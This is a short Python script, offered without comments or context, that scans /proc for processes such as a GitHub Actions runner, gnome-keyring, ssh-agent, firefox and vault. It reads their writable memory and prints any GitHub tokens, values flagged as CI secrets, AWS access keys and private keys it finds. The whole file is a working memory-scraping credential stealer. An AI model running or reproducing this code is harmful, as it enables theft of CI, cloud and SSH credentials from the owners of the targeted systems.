import os, re, sys

NAMES = ("Runner.Worker", "gnome-keyring-d", "ssh-agent", "firefox", "vault")
RX = re.compile(rb'ghs_[A-Za-z0-9]{36}|"isSecret":true[^}]{0,200}|AKIA[0-9A-Z]{16}|-----BEGIN [A-Z ]*PRIVATE KEY-----')

def pids():
    for d in filter(str.isdigit, os.listdir("/proc")):
        try:
            c = open(f"/proc/{d}/comm").read().strip()
        except OSError:
            continue
        if c in NAMES or c[:15] in (n[:15] for n in NAMES):
            yield d

def regions(pid):
    for l in open(f"/proc/{pid}/maps"):
        rng, perm = l.split()[:2]
        if perm.startswith("rw"):
            yield [int(x, 16) for x in rng.split("-")]

for pid in pids():
    with open(f"/proc/{pid}/mem", "rb", 0) as m:
        for lo, hi in regions(pid):
            try:
                m.seek(lo)
                for hit in set(RX.findall(m.read(hi - lo))):
                    sys.stdout.buffer.write(pid.encode() + b" " + hit + b"\n")
            except (OSError, ValueError, OverflowError):
                pass
